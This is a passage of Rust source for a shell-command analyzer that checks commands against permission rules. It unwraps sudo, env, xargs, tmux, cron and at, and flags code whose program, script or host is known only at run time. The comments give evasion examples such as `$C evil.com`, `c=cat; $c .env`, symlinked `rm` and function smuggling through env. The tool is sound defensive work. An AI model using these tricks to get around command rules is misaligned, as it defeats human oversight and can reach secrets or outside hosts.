//! Simple commands: wrappers seen through (more of them in the table of
//! [`wrappers`]), command strings parsed again (the builtins that run
//! strings in [`builtins`]), directory changes tracked, and the final
//! [`Command`] emitted.

mod builtins;
mod dev_tools;
mod wrappers;

use std::cell::OnceCell;
use std::path::PathBuf;
use std::sync::Arc;

use super::options::{self, Found, Spec};
use super::words::{self, quote};
use super::{
    Analyzer, Command, Cwds, Family, Item, MAX_CWDS, ReadOnly, UncertainKind, WordVal,
    is_exempt_device,
};
use super::{equivalents, limits, reads};
use crate::paths;

/// Commands whose operands are files they change: operands are checked
/// against Edit deny/ask rules as well as Read ones.
pub(super) const WRITE_COMMANDS: &[&str] = &[
    "rm",
    "rmdir",
    "mv",
    "cp",
    "touch",
    "mkdir",
    "ln",
    "chmod",
    "chown",
    "chgrp",
    "truncate",
    "install",
    "shred",
    "unlink",
    "dd",
    "rsync",
    "patch",
    "mkfifo",
    "mknod",
    "rename",
    "prename",
    "file-rename",
    "mmv",
];

/// Wrappers (and `bash -c` levels) around one command before it is refused.
const MAX_WRAPPERS: usize = 16;

/// Commands that can put a link (or another tree) where a path was.
const RELINKERS: &[&str] = &["ln", "mv", "cp", "rsync", "install"];

/// Shells whose `-c` argument is a script.
const SHELLS: &[&str] = &[
    "bash", "sh", "zsh", "dash", "ksh", "mksh", "ash", "yash", "posh", "fish",
];

/// Builtins that take variable names, whose subscripts are evaluated.
const NAME_BUILTINS: &[&str] = &[
    "declare",
    "typeset",
    "local",
    "export",
    "readonly",
    "unset",
    "read",
    "printf",
    "test",
    "[",
    "mapfile",
    "readarray",
    "wait",
    "let",
    "getopts",
];

/// Read a wrapper's options, which end at its first operand (the command
/// it runs, mostly), from `words[from]`: the index of that operand (the
/// length of `words` when there is none) and the options seen, or the
/// first option `spec` does not know.
fn skip_options(
    words: &[WordVal],
    from: usize,
    spec: &Spec,
) -> Result<(usize, Vec<Found>), String> {
    let p = options::leading(words.get(from..).unwrap_or_default(), spec);
    // The tables list a long option whose value is optional (`prlimit
    // --core[=LIMITS]`) as a flag.
    let flag_with_value = |u: &String| {
        u.split_once('=')
            .is_some_and(|(name, _)| spec.long_flags.contains(&name))
    };
    if let Some(opt) = p.unknown.into_iter().find(|u| !flag_with_value(u)) {
        return Err(opt);
    }
    let start = p.operand_at.first().map_or(words.len(), |k| from + k);
    Ok((start, p.found))
}

/// A command line being read, and its text once written out.
///
/// Known by where its words are and how many: the words stay borrowed, so
/// in place, while the frame is on the stack, and no other list of words
/// can be there then.
pub(in crate::shell) struct Frame {
    key: (usize, usize),
    text: OnceCell<Arc<str>>,
}

impl Frame {
    fn of(argv: &[WordVal]) -> Frame {
        Frame {
            key: Frame::key(argv),
            text: OnceCell::new(),
        }
    }

    fn key(argv: &[WordVal]) -> (usize, usize) {
        (argv.as_ptr() as usize, argv.len())
    }
}

/// The canonical text of some words.
fn text_of(words: &[WordVal]) -> String {
    let parts: Vec<String> = words
        .iter()
        .map(|w| match &w.literal {
            Some(l) => quote(l),
            None => w.raw.clone(),
        })
        .collect();
    parts.join(" ")
}

fn basename(name: &str) -> &str {
    name.rsplit('/').next().unwrap_or(name)
}

/// The starting points of `find` (`.` if none).
fn find_roots(argv: &[WordVal]) -> Vec<WordVal> {
    let mut starts: Vec<WordVal> = argv[1..]
        .iter()
        .skip_while(|w| matches!(w.literal.as_deref(), Some("-H" | "-L" | "-P")))
        .take_while(|w| {
            !w.literal
                .as_deref()
                .is_some_and(|l| l.starts_with(['-', '(', '!', ')', ',']))
        })
        .cloned()
        .collect();
    if starts.is_empty() {
        starts.push(WordVal::literal("."));
    }
    starts
}

impl Analyzer {
    /// A simple command called bare (not through a wrapper): a function
    /// defined earlier in the command when one has its name, else the
    /// program. Only a bare call reaches a function; wrappers (`command`,
    /// `exec`, `builtin`, `env`, `nice`, `timeout`, `xargs`, `sudo`, …) run
    /// the program itself, so they go to [`Analyzer::argv`] directly.
    pub(super) fn call(&mut self, argv: Vec<WordVal>) {
        // An alias of its name: what bash reads in its place, as well.
        self.expand_alias(&argv);
        if !self.no_functions
            && let Some(name) = argv.first().and_then(|w| w.literal.as_deref())
            && self.functions.iter().any(|f| f == name)
        {
            self.function_called = true;
            self.config_in_function(&argv);
            return self.emit_as(
                &argv,
                Some("it calls a function defined earlier in the command, whose body was checked"),
            );
        }
        self.argv(argv);
    }

    /// Process the words of a program's command line (after expansion
    /// analysis): a builtin or a program, never a shell function.
    pub(super) fn argv(&mut self, argv: Vec<WordVal>) {
        match self.budget.check_time() {
            Ok(()) => {}
            Err(limits::Refusal::Spent) => return,
            Err(refusal) => {
                let text = self.text(&argv);
                return self.refused(&text, refusal);
            }
        }
        self.frames.push(Frame::of(&argv));
        self.command_line(&argv);
        self.frames.pop();
    }

    /// The text of `argv` ([`text_of`]), written out once per command line
    /// being read however often it is asked for: a wrapper that runs each
    /// of a thousand arguments would otherwise write itself out a thousand
    /// times, quadratic in the command.
    pub(super) fn text(&self, argv: &[WordVal]) -> Arc<str> {
        let key = Frame::key(argv);
        match self.frames.iter().rev().find(|f| f.key == key) {
            Some(f) => f.text.get_or_init(|| text_of(argv).into()).clone(),
            None => text_of(argv).into(),
        }
    }

    fn command_line(&mut self, argv: &[WordVal]) {
        if self.outer.len() > MAX_WRAPPERS {
            // `xargs xargs … cmd`: every level is read again (and takes
            // stack); no real command nests wrappers this deep.
            let text: String = self.text(argv).chars().take(200).collect();
            return self.uncertain(
                UncertainKind::Command,
                &text,
                format!("more than {MAX_WRAPPERS} wrappers and nested scripts around one command are too many to check"),
            );
        }
        let Some(first) = argv.first() else { return };
        let Some(name) = first.literal.clone() else {
            let text = self.text(argv);
            self.uncertain(
                UncertainKind::Command,
                &text,
                "the command name is computed at run time",
            );
            // `$C evil.com`, `env "$X" curl …`: any program, any host.
            self.uncertain(
                UncertainKind::Host,
                &text,
                "the command name is computed at run time, and the program may reach any host",
            );
            // Whatever it is (`c=cat; $c .env`), it is given these files
            // and may read or change them.
            let _ = self.path_args("", argv);
            self.may_change_protected("", argv);
            return;
        };
        if name.starts_with("/dev/") || name.starts_with("/proc/") {
            // `/dev/fd/3 -f x 3</usr/bin/rm`, `/dev/stdin x < /bin/rm`:
            // the program is whatever file the descriptor holds.
            let text = self.text(argv);
            self.uncertain(
                UncertainKind::Command,
                &text,
                "the program is a file a descriptor or a process holds, known only at run time",
            );
            return;
        }
        if first.glob {
            // `/bin/r? x`, `r[m] x`: the shell runs whatever file the
            // pattern matches, so the name as written says nothing.
            let text = self.text(argv);
            self.uncertain(
                UncertainKind::Command,
                &text,
                "the command name is a pattern the shell expands to a file name at run time",
            );
            return;
        }
        let base = program_name(basename(&name));
        if matches!(base.as_str(), "set" | "shopt") || SHELLS.contains(&base.as_str()) {
            self.keyword_option(&base, argv);
        }
        if base == "shopt" {
            // `shopt -s nocaseglob`, `extglob`, `nullglob`: later patterns
            // match otherwise than the resolver expands them.
            self.glob_options_changed = true;
        }
        if base == "unset" {
            // `unset -f f`: later calls of f run a program again.
            self.functions.clear();
            self.functions_changed = true;
        }
        if let Some(sub) = base.strip_prefix("git-")
            && !sub.is_empty()
            && sub.bytes().all(|b| b.is_ascii_lowercase() || b == b'-')
        {
            // git's own commands in its exec path (`/usr/lib/git-core/
            // git-push`, `!git-push` in an alias) are `git push`.
            self.emit(argv);
            let mut as_git = vec![WordVal::literal("git"), WordVal::literal(sub)];
            as_git.extend(argv[1..].iter().cloned());
            return self.command_line(&as_git);
        }
        if name.contains('/')
            && !wrappers::in_system_dir(&name)
            && let Some(real) = self.linked_program(&name, first.tilde, &base)
        {
            // `./del x` where `del` links to `/bin/rm`, a repository's
            // `tools/ls` linking there: the program is what the link names.
            // The name as written must be allowed itself; the real one is
            // checked as if written.
            self.emit(argv);
            let mut real_argv = argv.to_vec();
            // A system program by its name, as it is written everywhere.
            let real = if wrappers::in_system_dir(&real) {
                basename(&real)
            } else {
                &real
            };
            real_argv[0] = WordVal::literal(real);
            return self.command_line(&real_argv);
        }
        if name.contains('/') && !wrappers::in_system_dir(&name) && wrappers::runs_a_command(&base)
        {
            // `./env ls` runs ./env, whatever that file is: it must be
            // allowed as itself; what the real one would run is checked too.
            self.emit(argv);
        }
        let forms = equivalents::forms(&base, argv);
        self.emit_equivalents(argv, forms);
        // A credential file it prints, found by itself.
        self.credential_reads(&base, argv);
        if self.table_wrapper(&base, argv) {
            return;
        }
        if let Some(runner) = runner_of(&base, argv) {
            self.config_hosts(&base, argv);
            return self.package_runner(argv, runner);
        }
        if terminal_multiplexer_runs(&base, argv) {
            // `tmux new -d 'rm x'`, `tmux send-keys 'rm x' Enter`, `screen
            // -dm rm x`: a shell in another terminal runs it.
            // What that shell does may read or write any file.
            self.emit(argv);
            return self.code_acts(argv, "a shell of another terminal (tmux, screen)");
        }
        if base == "crontab"
            && !argv[1..].iter().any(|w| {
                matches!(
                    w.literal.as_deref(),
                    Some("-l" | "-h" | "--help" | "-V" | "--version")
                )
            })
        {
            // `crontab FILE`, `crontab -`, `crontab -e`: commands cron runs
            // later, with this user's files.
            self.emit(argv);
            return self.code_acts(argv, "a crontab installed by it");
        }
        if matches!(base.as_str(), "at" | "batch")
            && !argv[1..].iter().any(|w| {
                matches!(
                    w.literal.as_deref(),
                    Some("-l" | "-r" | "-d" | "-c" | "-V" | "-h" | "--help")
                )
            })
        {
            // `echo 'rm x' | at now`: like `| bash`, later.
            self.emit(argv);
            return self.code_acts(
                argv,
                "at, which runs the commands it reads from its input or a file at a later time,",
            );
        }
        match base.as_str() {
            // `jobs -x CMD ARGS` runs CMD (job specs in ARGS replaced).
            "jobs" if argv.get(1).and_then(|w| w.literal.as_deref()) == Some("-x") => {
                self.unwrap(argv, 2)
            }
            // `history -w FILE`, `-a FILE` write the history list, which
            // `history -s TEXT` fills with anything, to FILE.
            "history" => {
                self.emit(argv);
                let mut writes = false;
                for w in &argv[1..] {
                    match w.literal.as_deref() {
                        Some(l) if l.starts_with('-') => {
                            writes |= l.contains('w') || l.contains('a');
                        }
                        _ if writes => self.writes(w),
                        _ => {}
                    }
                }
            }
            "command" => self.wrapper_command(argv),
            "builtin" | "nohup" | "busybox" => {
                let from =
                    usize::from(argv.get(1).and_then(|w| w.literal.as_deref()) == Some("--"));
                self.unwrap(argv, 1 + from)
            }
            "exec" => self.wrapper_exec(argv),
            "time" => self.wrapper_time(argv),
            "nice" => self.wrapper_nice(argv),
            "timeout" => self.wrapper_timeout(argv),
            "stdbuf" => self.simple_wrapper(
                argv,
                &Spec {
                    with_arg: "ioe",
                    long_with_arg: &["--input", "--output", "--error"],
                    ..Spec::default()
                },
            ),
            "env" => self.wrapper_env(argv),
            "setsid" => self.simple_wrapper(
                argv,
                &Spec {
                    flags: "cfw",
                    long_flags: &["--ctty", "--fork", "--wait"],
                    ..Spec::default()
                },
            ),
            "ionice" => self.simple_wrapper(
                argv,
                &Spec {
                    flags: "t",
                    with_arg: "cn",
                    long_flags: &["--ignore"],
                    long_with_arg: &["--class", "--classdata"],
                    ..Spec::default()
                },
            ),
            "unbuffer" => self.simple_wrapper(
                argv,
                &Spec {
                    flags: "p",
                    ..Spec::default()
                },
            ),
            "flock" => self.wrapper_flock(argv),
            "su" | "runuser" => self.wrapper_su(argv),
            "pkexec" => {
                let mut start = 1;
                while let Some(l) = argv.get(start).and_then(|w| w.literal.as_deref()) {
                    match l {
                        "--user" => start += 2,
                        "--keep-cwd" | "--disable-internal-agent" => start += 1,
                        _ => break,
                    }
                }
                if start >= argv.len() {
                    return self.emit(argv);
                }
                self.privileged.push(self.text(argv));
                self.unwrap(argv, start);
                self.privileged.pop();
            }
            "xargs" => self.wrapper_xargs(argv),
            "find" => self.find(argv),
            "sudo" | "doas" => self.wrapper_sudo(argv, &base),
            "eval" => self.builtin_eval(argv),
            "trap" => self.builtin_trap(argv),
            "alias" => self.alias_builtin(argv),
            "compgen" | "complete" => self.builtin_completion(argv),
            "bind" => self.builtin_bind(argv),
            "fc" => {
                self.emit(argv);
                if !argv[1..].iter().any(|w| w.literal.as_deref() == Some("-l")) {
                    let text = self.text(argv);
                    self.uncertain(
                        UncertainKind::Command,
                        &text,
                        format!("`{base}` can run commands that are not written here"),
                    );
                }
            }
            "cd" | "pushd" | "popd" | "chdir" => self.change_dir(argv, &base),
            "watch" => self.wrapper_watch(argv),
            "source" | "." => {
                // The file may define or remove functions.
                self.functions.clear();
                self.functions_changed = true;
                self.emit(argv);
                let file = argv[1..]
                    .iter()
                    .find(|w| w.literal.as_deref() != Some("--"))
                    .cloned();
                if !file.is_some_and(|f| self.script_file(argv, &f, true)) {
                    self.opaque(
                        argv,
                        "it runs a script file whose commands are not written here",
                    );
                }
            }
            "hash" | "enable" => {
                self.emit(argv);
                let flag = if base == "hash" { "-p" } else { "-f" };
                if argv[1..].iter().any(|w| {
                    w.literal
                        .as_deref()
                        .is_none_or(|l| l.starts_with('-') && l.contains(&flag[1..]))
                }) {
                    let text = self.text(argv);
                    self.uncertain(
                        UncertainKind::Command,
                        &text,
                        format!("`{base} {flag}` changes what a later command name runs"),
                    );
                }
            }
            "git" => self.git(argv),
            "tee" => {
                self.emit(argv);
                if let Ok((start, _)) = skip_options(
                    argv,
                    1,
                    &Spec {
                        flags: "aip",
                        long_flags: &["--append", "--ignore-interrupts", "--output-error"],
                        ..Spec::default()
                    },
                ) {
                    for w in &argv[start..] {
                        self.edit_target(w);
                    }
                } else {
                    let text = self.text(argv);
                    self.uncertain(
                        UncertainKind::Edit,
                        &text,
                        "cannot tell which files tee writes",
                    );
                }
            }
            b if SHELLS.contains(&b) => self.shell(argv),
            "run-parts" => {
                self.emit(argv);
                self.not_written_here(
                    argv,
                    "run-parts runs every program in the directory it is given, none of them read here",
                );
            }
            b if NAME_BUILTINS.contains(&b) => {
                self.emit(argv);
                self.name_builtin(b, argv);
                self.builtin_assigns(b, argv);
                if matches!(b, "mapfile" | "readarray") {
                    self.builtin_mapfile(argv);
                }
            }
            _ => self.program(&base, argv),
        }
    }

    /// Builtins that take variable names evaluate subscripts (and, for
    /// integer variables, values) as arithmetic, which can run commands.
    fn name_builtin(&mut self, b: &str, argv: &[WordVal]) {
        let declares = matches!(b, "declare" | "typeset" | "local" | "export" | "readonly");
        let takes_names =
            declares || matches!(b, "unset" | "read" | "mapfile" | "readarray" | "let");
        // The option whose value is a variable's name: `printf -v NAME`,
        // `test -v NAME`, `wait -p NAME` (attached too: `-vNAME`).
        let name_option = match b {
            "printf" | "test" | "[" => Some("-v"),
            "wait" => Some("-p"),
            _ => None,
        };
        let mut after_v = false;
        for w in &argv[1..] {
            let attached = name_option
                .zip(w.literal.as_deref())
                .and_then(|(o, l)| l.strip_prefix(o))
                .filter(|rest| !rest.is_empty());
            if let Some(name) = attached
                && words::has_dynamic_subscript(name)
            {
                self.uncertain(
                    UncertainKind::Command,
                    name,
                    "this builtin evaluates the subscript of the name it assigns, which can run commands",
                );
            }
            let names_here = takes_names || after_v;
            after_v = name_option.is_some() && w.literal.as_deref() == name_option;
            match &w.literal {
                Some(l) => {
                    if names_here && words::has_dynamic_subscript(l)
                        || (b == "let" && !words::is_static_arithmetic(l))
                    {
                        self.uncertain(
                            UncertainKind::Command,
                            l,
                            "this builtin evaluates the expression or subscript, which can run commands",
                        );
                    }
                    // (`export -n` takes the export away.)
                    if declares && b != "export" && l.starts_with('-') && l.contains('n') {
                        // `declare -n ref=http_proxy; ref=h`: what is
                        // assigned through a name reference sets a
                        // variable not named where it is assigned.
                        self.unknown_variable_set(l);
                    } else if declares && l.starts_with('-') && l.contains('i') {
                        self.uncertain(
                            UncertainKind::Command,
                            l,
                            "integer variables evaluate what is later assigned to them",
                        );
                    }
                    if declares && let Some((name, value)) = l.split_once('=') {
                        let name = name.trim_end_matches('+');
                        let name = name.split('[').next().unwrap_or(name);
                        self.variable_set(name, Some(&WordVal::literal(value)));
                    }
                }
                None if names_here => {
                    // `local x="$1"` names x literally; `declare "$spec"` does not.
                    let literal_name = w
                        .raw
                        .split_once('=')
                        .map(|(n, _)| n.trim_end_matches('+'))
                        .filter(|n| words::is_name(n));
                    match literal_name {
                        // `export EDITOR="rm x #$E"`: the value is known
                        // only at run time, the variable is.
                        Some(name) if declares => {
                            // (Its expansions were walked with the word; a
                            // tilde is read again here: `export HOME=~/x`.)
                            let value = w.raw.split_once('=').map_or("", |(_, v)| v);
                            let value = if value.contains(['$', '`']) {
                                WordVal::dynamic(value)
                            } else {
                                self.eval_word(value)
                            };
                            self.variable_set(name, Some(&value));
                        }
                        Some(_) if b != "let" => {}
                        _ if declares => self.unknown_variable_set(&w.raw),
                        _ => self.uncertain(
                            UncertainKind::Command,
                            &w.raw,
                            "a variable name or expression computed at run time can run commands when evaluated",
                        ),
                    }
                }
                None => {}
            }
        }
    }

    /// Shell code that runs but is not written here: a shell reading its
    /// input or a file it cannot be read from now (`echo … | bash`, `bash
    /// <<EOF`, `source <(…)`, `. /dev/stdin`), or a script computed at run
    /// time (`bash -c "…$X…"`, `eval "$S"`; `kind` is then
    /// [`UncertainKind::Command`]). Whatever it runs may reach any host, as
    /// code given to python may, so it is uncertain for the domain rules
    /// too.
    pub(super) fn unseen_shell_code(&mut self, kind: UncertainKind, text: &str, reason: &str) {
        self.uncertain(kind, text, reason);
        self.uncertain(
            UncertainKind::Host,
            text,
            format!("{reason}, and what it runs may reach any host"),
        );
    }

    /// Shell code that runs but is not written here (see
    /// [`Analyzer::unseen_shell_code`]).
    fn opaque(&mut self, argv: &[WordVal], reason: &str) {
        let text = self.text(argv);
        self.unseen_shell_code(UncertainKind::Opaque, &text, reason);
    }

    /// Code that runs but is not written here and is not shell code given
    /// to a shell (a login shell's startup files, the programs of a
    /// `run-parts` directory, a file an earlier part of the command may have
    /// written run by its path): it matters where Bash deny or ask rules
    /// could be got around through it; the hosts it reaches are the
    /// sandbox's to hold, as a script file's are.
    fn not_written_here(&mut self, argv: &[WordVal], reason: &str) {
        let text = self.text(argv);
        self.uncertain(UncertainKind::Opaque, &text, reason);
    }

    fn wrapper_watch(&mut self, argv: &[WordVal]) {
        let spec = Spec {
            flags: "tbegcxpwd",
            with_arg: "nq",
            long_flags: &[
                "--differences",
                "--no-title",
                "--beep",
                "--errexit",
                "--chgexit",
                "--color",
                "--no-color",
                "--exec",
                "--precise",
                "--no-wrap",
            ],
            long_with_arg: &["--interval", "--equexit"],
            ..Spec::default()
        };
        let (start, found) = match skip_options(argv, 1, &spec) {
            Ok(x) => x,
            Err(opt) => return self.unknown_option(argv, &opt),
        };
        if start >= argv.len() {
            return;
        }
        if found.iter().any(|f| f.name == "-x" || f.name == "--exec") {
            return self.unwrap(argv, start);
        }
        // watch joins its arguments and runs them with `sh -c`.
        let all: Option<Vec<&str>> = argv[start..].iter().map(|w| w.literal.as_deref()).collect();
        match all {
            Some(parts) => {
                let script = parts.join(" ");
                self.nested_script(argv, &script);
            }
            None => {
                let text = self.text(argv);
                self.uncertain(
                    UncertainKind::Command,
                    &text,
                    "watch runs text computed at run time",
                );
            }
        }
    }

    /// Strip `skip` words and analyse the rest as the command, remembering
    /// the whole as an outer form.
    fn unwrap(&mut self, argv: &[WordVal], skip: usize) {
        if skip >= argv.len() {
            // The wrapper alone (`exec >log`, `time`): nothing else runs.
            return;
        }
        if self.words_may_split(argv, skip) {
            return;
        }
        self.outer.push(self.text(argv));
        self.argv(argv[skip..].to_vec());
        self.outer.pop();
    }

    /// `X='5 rm'; timeout $X x`: a word computed at run time before the
    /// command (at `skip`) may become several words (or an option that
    /// takes the next one), so which word is the command is not known:
    /// uncertain, and true.
    fn words_may_split(&mut self, argv: &[WordVal], skip: usize) -> bool {
        let Some(w) = argv
            .get(1..skip)
            .unwrap_or_default()
            .iter()
            .find(|w| w.literal.is_none() && !w.raw.starts_with('"'))
        else {
            return false;
        };
        let text = self.text(argv);
        self.uncertain(
            UncertainKind::Command,
            &text,
            format!(
                "`{}` is computed at run time and may split into several words, so which word is the command is not known",
                w.raw
            ),
        );
        true
    }

    fn simple_wrapper(&mut self, argv: &[WordVal], spec: &Spec) {
        match skip_options(argv, 1, spec) {
            Ok((start, _)) => self.unwrap(argv, start),
            Err(opt) => self.unknown_option(argv, &opt),
        }
    }

    fn unknown_option(&mut self, argv: &[WordVal], opt: &str) {
        let text = self.text(argv);
        let name = argv.first().map(|w| w.raw.clone()).unwrap_or_default();
        self.uncertain(
            UncertainKind::Command,
            &text,
            format!("unknown option `{opt}` of `{name}`: cannot tell which command it runs"),
        );
    }

    /// `flock [options] FILE CMD…` or `flock [options] FILE -c 'script'`.
    fn wrapper_flock(&mut self, argv: &[WordVal]) {
        let spec = Spec {
            flags: "sxnuoFv",
            with_arg: "wEc",
            long_flags: &[
                "--shared",
                "--exclusive",
                "--nonblock",
                "--unlock",
                "--close",
                "--no-fork",
                "--verbose",
            ],
            long_with_arg: &["--timeout", "--conflict-exit-code", "--command"],
            ..Spec::default()
        };
        let (start, found) = match skip_options(argv, 1, &spec) {
            Ok(x) => x,
            Err(opt) => return self.unknown_option(argv, &opt),
        };
        let after_file = argv
            .get(start + 1)
            .and_then(|w| w.literal.as_deref())
            .filter(|l| matches!(*l, "-c" | "--command"))
            .map(|_| argv.get(start + 2).cloned());
        let script = found
            .into_iter()
            .find(|f| f.name == "-c" || f.name == "--command")
            .map(|f| f.value)
            .or(after_file);
        match script {
            Some(Some(WordVal {
                literal: Some(text),
                ..
            })) => self.nested_script(argv, &text),
            Some(_) => {
                let text = self.text(argv);
                self.uncertain(
                    UncertainKind::Command,
                    &text,
                    "flock -c runs text computed at run time",
                );
            }
            // The operand after the options is the lock file.
            None if start + 1 < argv.len() => self.unwrap(argv, start + 1),
            None => self.emit(argv),
        }
    }

    /// `su [options] [user] -c 'script'`: a privileged shell.
    fn wrapper_su(&mut self, argv: &[WordVal]) {
        let mut script: Option<&WordVal> = None;
        let mut login = false;
        let mut i = 1;
        while let Some(w) = argv.get(i) {
            match w.literal.as_deref() {
                Some("-c" | "--command" | "--session-command") => {
                    script = argv.get(i + 1);
                    i += 2;
                }
                Some("-" | "-l" | "--login") => {
                    login = true;
                    i += 1;
                }
                Some("-s" | "--shell")
                    if !argv
                        .get(i + 1)
                        .and_then(|w| w.literal.as_deref())
                        .is_some_and(|s| SHELLS.contains(&basename(s))) =>
                {
                    return self.uncertain(
                        UncertainKind::Command,
                        &self.text(argv),
                        "the shell it runs is not a known shell",
                    );
                }
                Some(l) if l.starts_with("--command=") => {
                    return self.uncertain(
                        UncertainKind::Command,
                        l,
                        "write `su -c 'script'` so the script can be checked",
                    );
                }
                Some("-s" | "--shell" | "-g" | "--group" | "-G" | "--supp-group" | "-u") => i += 2,
                _ => i += 1,
            }
        }
        self.emit(argv);
        if login && script.is_some() {
            self.not_written_here(
                argv,
                "a login shell runs startup files whose commands are not written here",
            );
        }
        match script {
            None => self.opaque(
                argv,
                "it starts a shell whose commands are not written here",
            ),
            Some(WordVal {
                literal: Some(text),
                ..
            }) => {
                let text = text.clone();
                self.privileged.push(self.text(argv));
                self.nested_script(argv, &text);
                self.privileged.pop();
            }
            Some(w) => {
                let raw = w.raw.clone();
                self.uncertain(
                    UncertainKind::Command,
                    &raw,
                    "su runs a script computed at run time",
                );
            }
        }
    }

    fn wrapper_command(&mut self, argv: &[WordVal]) {
        match skip_options(
            argv,
            1,
            &Spec {
                flags: "pvV",
                ..Spec::default()
            },
        ) {
            Ok((_, found)) if found.iter().any(|f| f.name == "-v" || f.name == "-V") => {
                // `command -v x` only looks x up.
                self.emit(argv);
            }
            Ok((start, _)) => self.unwrap(argv, start),
            Err(opt) => self.unknown_option(argv, &opt),
        }
    }

    /// `exec [-cl] [-a name] cmd…`: `-l` (or a name starting with `-`)
    /// makes a shell a login shell, which runs its startup files.
    fn wrapper_exec(&mut self, argv: &[WordVal]) {
        let spec = Spec {
            flags: "cl",
            with_arg: "a",
            ..Spec::default()
        };
        let (start, found) = match skip_options(argv, 1, &spec) {
            Ok(x) => x,
            Err(opt) => return self.unknown_option(argv, &opt),
        };
        let login = found.iter().any(|f| {
            f.name == "-l"
                || (f.name == "-a"
                    && f.value
                        .as_ref()
                        .is_none_or(|v| v.literal.as_deref().is_none_or(|l| l.starts_with('-'))))
        });
        let runs_shell = argv
            .get(start)
            .and_then(|w| w.literal.as_deref())
            .is_some_and(|l| SHELLS.contains(&basename(l)));
        if login && runs_shell {
            self.emit(argv);
            self.not_written_here(
                argv,
                "exec -l starts a login shell, which runs startup files whose commands are not written here",
            );
        }
        self.unwrap(argv, start);
    }

    fn wrapper_time(&mut self, argv: &[WordVal]) {
        match skip_options(
            argv,
            1,
            &Spec {
                flags: "pvaq",
                with_arg: "fo",
                long_flags: &["--verbose", "--portability", "--append", "--quiet"],
                long_with_arg: &["--format", "--output"],
                ..Spec::default()
            },
        ) {
            Ok((start, found)) => {
                for f in found {
                    if f.name == "-o" || f.name == "--output" {
                        match f.value {
                            Some(v) => self.edit_target(&v),
                            None => self.uncertain(UncertainKind::Edit, "time -o", "missing file"),
                        }
                    }
                }
                self.unwrap(argv, start);
            }
            Err(opt) => self.unknown_option(argv, &opt),
        }
    }

    fn wrapper_nice(&mut self, argv: &[WordVal]) {
        let mut start = 1;
        // `nice -10 cmd` (historic form).
        if let Some(l) = argv.get(1).and_then(|w| w.literal.as_deref())
            && l.len() > 1
            && l.starts_with('-')
            && l[1..].chars().all(|c| c.is_ascii_digit())
        {
            start = 2;
        }
        match skip_options(
            argv,
            start,
            &Spec {
                with_arg: "n",
                long_with_arg: &["--adjustment"],
                ..Spec::default()
            },
        ) {
            Ok((start, _)) => self.unwrap(argv, start),
            Err(opt) => self.unknown_option(argv, &opt),
        }
    }

    fn wrapper_timeout(&mut self, argv: &[WordVal]) {
        match skip_options(
            argv,
            1,
            &Spec {
                flags: "v",
                with_arg: "sk",
                long_flags: &["--preserve-status", "--foreground", "--verbose"],
                long_with_arg: &["--signal", "--kill-after"],
                ..Spec::default()
            },
        ) {
            // The operand after the options is the duration.
            Ok((start, _)) => self.unwrap(argv, start + 1),
            Err(opt) => self.unknown_option(argv, &opt),
        }
    }

    fn wrapper_env(&mut self, argv: &[WordVal]) {
        // `env HOME=d cmd`: d is cmd's HOME, not the shell's.
        let home = self.home.clone();
        let child_home = self.child_home.clone();
        self.wrapper_env_with(argv, home);
        self.child_home = child_home;
    }

    fn wrapper_env_with(&mut self, argv: &[WordVal], home: Option<PathBuf>) {
        let mut i = 1;
        let mut chdir: Option<WordVal> = None;
        let mut split: Option<WordVal> = None;
        let mut options_done = false;
        while let Some(w) = argv.get(i) {
            let Some(lit) = w.literal.clone() else { break };
            if lit == "--" && !options_done {
                // Assignments may still follow.
                options_done = true;
                i += 1;
                continue;
            }
            if lit == "-" && !options_done {
                i += 1;
                continue;
            }
            if lit.starts_with('-') && !options_done {
                let (found, next) = match skip_options(
                    &argv[..(i + 2).min(argv.len())],
                    i,
                    &Spec {
                        flags: "i0v",
                        with_arg: "uCS",
                        long_flags: &[
                            "--ignore-environment",
                            "--null",
                            "--debug",
                            "--list-signal-handling",
                        ],
                        // `--block-signal[=SIG]`
                        long_optional: &["--block-signal", "--default-signal", "--ignore-signal"],
                        long_with_arg: &["--unset", "--chdir", "--split-string"],
                        ..Spec::default()
                    },
                ) {
                    Ok((next, found)) if next > i => (found, next),
                    Ok(_) => break,
                    Err(opt) => return self.unknown_option(argv, &opt),
                };
                for f in found {
                    match f.name {
                        "-C" | "--chdir" => chdir = f.value,
                        "-S" | "--split-string" => split = f.value,
                        // Unsetting PATH makes bash look in `.` too.
                        "-u" | "--unset" => match f.value.and_then(|v| v.literal) {
                            Some(name) => self.assigned_name(&name),
                            None => self.assigned_name("PATH"),
                        },
                        _ => {}
                    }
                }
                i = next;
                continue;
            }
            // Every word with `=` is an assignment to env, whatever the
            // name (`BASH_FUNC_f%%=() { …; }` defines a function in bash).
            match lit.split_once('=') {
                Some((name, value)) if !name.is_empty() => {
                    self.variable_set(name, Some(&WordVal::literal(value)));
                    i += 1;
                }
                _ => break,
            }
        }
        if self.home != home {
            self.child_home = Some(std::mem::replace(&mut self.home, home));
        }
        if let Some(s) = split {
            // `env -S 'cmd args' more`: the string is split into words.
            let Some(text) = s.literal else {
                // It may set any variable and run any command.
                let raw = self.text(argv);
                self.unknown_variable_set(&raw);
                return self.unseen_shell_code(
                    UncertainKind::Command,
                    &raw,
                    "env -S splits text computed at run time",
                );
            };
            let rest: Vec<String> = argv[i..].iter().map(|w| w.raw.clone()).collect();
            let script = format!("{} {}", env_split_string(&text), rest.join(" "));
            return self.nested_script(argv, &script);
        }
        if i >= argv.len() {
            return self.emit(argv);
        }
        match chdir {
            None => self.unwrap(argv, i),
            Some(dir) => {
                let saved = self.cwds.clone();
                self.cwds = self.cwds_after_cd(dir.literal.as_deref(), dir.tilde);
                self.unwrap(argv, i);
                self.cwds = saved;
            }
        }
    }

    fn wrapper_xargs(&mut self, argv: &[WordVal]) {
        let spec = Spec {
            flags: "0prtxo",
            with_arg: "adEILnPs",
            optional_arg: "eil",
            long_flags: &[
                "--null",
                "--interactive",
                "--no-run-if-empty",
                "--verbose",
                "--exit",
                "--open-tty",
                "--show-limits",
                "--eof",
                "--replace",
                "--max-lines",
            ],
            long_with_arg: &[
                "--arg-file",
                "--delimiter",
                "--max-args",
                "--max-procs",
                "--max-chars",
                "--process-slot-var",
            ],
            ..Spec::default()
        };
        let (start, found) = match skip_options(argv, 1, &spec) {
            Ok(x) => x,
            Err(opt) => return self.unknown_option(argv, &opt),
        };
        let mut replace: Option<String> = None;
        for f in &found {
            match f.name {
                // `xargs -a FILE`: what the file holds becomes arguments.
                "-a" | "--arg-file" => {
                    if let Some(v) = &f.value {
                        self.touch(Family::Read, v);
                    }
                }
